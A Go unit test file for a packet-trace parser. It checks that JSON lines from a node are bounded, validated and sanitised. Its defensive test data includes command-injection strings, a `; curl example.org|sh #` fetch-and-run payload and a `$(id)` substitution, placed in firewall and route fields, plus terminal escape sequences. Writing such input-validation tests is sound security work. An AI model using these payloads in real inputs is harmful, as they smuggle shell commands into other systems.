// SPDX-License-Identifier: Apache-2.0

package trace

import (
	"encoding/json"
	"net/netip"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

const port = 61234

func packet() Packet {
	return Packet{Kind: SYN, From: netip.MustParseAddrPort("10.8.1.5:61234"), To: netip.MustParseAddrPort("10.9.1.7:80"),
		Size: 60, Flow: 7}
}

func TestLinesSurvive(t *testing.T) {
	for _, want := range []Line{{Listening: true}, {Ended: true}, {Missed: &Missed{Packets, "more"}},
		{Seen: &Seen{packet(), "sl-c0", true}},
		{Dropped: &Dropped{packet(), "ip", "filter", "FORWARD", "drop"}},
		{Refused: &Refused{packet(), "eth0", false, netip.MustParseAddr("10.8.1.1"), "host unreachable"}},
		{LookedUp: &Route{netip.MustParseAddr("10.8.1.5"), netip.MustParseAddr("10.9.1.7"), "cni0", "", "no route"}}} {
		text, err := json.Marshal(want)
		if err != nil {
			t.Fatal(err)
		}
		got, err := Parse(text, port)
		if diff := cmp.Diff(want, got, cmpopts.EquateComparable(netip.Addr{}, netip.AddrPort{})); err != nil || diff != "" {
			t.Errorf("%s: %v %s", text, err, diff)
		}
	}
}

// TestLinesOfANodeAreNotTrusted: what a node prints is bounded, of the flow that was asked for, and text.
func TestLinesOfANodeAreNotTrusted(t *testing.T) {
	const ends = `"from":"10.8.1.5:61234","to":"10.9.1.7:80"`
	for _, text := range []string{"", "null", "{}", "[]", `{"listening":true,"ended":true}`, `{"missed":{}}`,
		`{"missed":{"what":"all"}}`,
		`{"seen":{"kind":"syn","device":"a",` + ends + `,"size":-1}}`,
		`{"seen":{"kind":"syn","device":"a",` + ends + `,"size":70000}}`,
		`{"seen":{"kind":"","device":"a",` + ends + `}}`,
		`{"seen":{"kind":"syn","device":"",` + ends + `}}`,
		`{"seen":{"kind":"syn","device":"0123456789012345",` + ends + `}}`,
		`{"seen":{"kind":"syn","device":"a","from":"10.8.1.5:80","to":"10.9.1.7:80"}}`,
		`{"seen":{"kind":"syn","device":"a","from":"10.8.1.5:61234","to":"10.9.1.7:61234"}}`,
		`{"seen":{"kind":"syn","device":"a","from":"[fe80::1%a]:61234","to":"[fe80::2]:80"}}`,
		`{"missed":{"what":"rules","why":"` + strings.Repeat("x", MaxLine) + `"}}`,
	} {
		if l, err := Parse([]byte(text), port); err == nil {
			t.Errorf("%s is taken as %+v", text, l)
		}
	}
	const evil = `; curl example.org|sh #`
	hostile := `{"dropped":{"kind":"syn",` + ends + `,"family":"ip` + evil + `","table":"$(id)","chain":"KUBE-FORWARD"}}`
	if l, err := Parse([]byte(hostile), port); err != nil || l.Dropped.Family != "?" || l.Dropped.Table != "?" ||
		l.Dropped.Chain != "KUBE-FORWARD" {
		t.Errorf("%+v, %v", l.Dropped, err)
	}
	hostile = `{"route":{"from":"fe80::1%` + evil + `","to":"fe80::2%` + evil + `","by":"eth0` + evil + `"}}`
	if l, err := Parse([]byte(hostile), port); err != nil || l.LookedUp.From.Zone()+l.LookedUp.To.Zone() != "" ||
		l.LookedUp.By != "?" {
		t.Errorf("%+v, %v", l.LookedUp, err)
	}
	text := `{"dropped":{"kind":"syn",` + ends + `,"rule":"a\u001b[31m\n` + strings.Repeat("y", 1000) + `"}}`
	l, err := Parse([]byte(text), port)
	if err != nil || len(l.Dropped.Rule) > maxText || strings.ContainsAny(l.Dropped.Rule, "\x1b\n") {
		t.Errorf("%+v, %v", l.Dropped, err)
	}
}
